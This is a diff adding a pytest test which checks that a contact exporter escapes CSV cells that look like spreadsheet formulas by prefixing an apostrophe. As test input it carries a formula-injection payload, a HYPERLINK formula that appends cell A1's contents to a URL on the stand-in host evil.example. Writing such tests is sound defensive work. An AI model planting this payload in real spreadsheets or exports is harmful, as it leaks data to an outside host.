@@ -99,3 +99,20 @@ def test_paging_reads_every_contact_once(seeded) -> None:
     assert ids == sorted(seeded.ids, reverse=True)
     capped = ContactQuery(limit=2)
     assert len(list(iter_contact_dicts(seeded.database.sessions, capped, page_size=1))) == 2
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_look_like_formulas_stay_text(start: str) -> None:
+    evil = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    contact = {
+        "id": 1, "type": "call", "status": "occurred", "date": "2024-01-01",
+        "location": "=1+1", "evidence": [evil], "articles": [{"url": "https://a.example/",
+        "source": "@wire"}], "participants": [{"name": "-Foo", "role": "participant"}],
+    }  # fmt: skip
+    out = io.StringIO()
+    export([contact], out, "csv")
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["evidence"] == "'" + evil
+    assert row["location"] == "'=1+1" and row["sources"] == "'@wire"
+    assert row["participants"] == "'-Foo"
+    assert row["id"] == "1" and row["date"] == "2024-01-01"  # ordinary cells are untouched
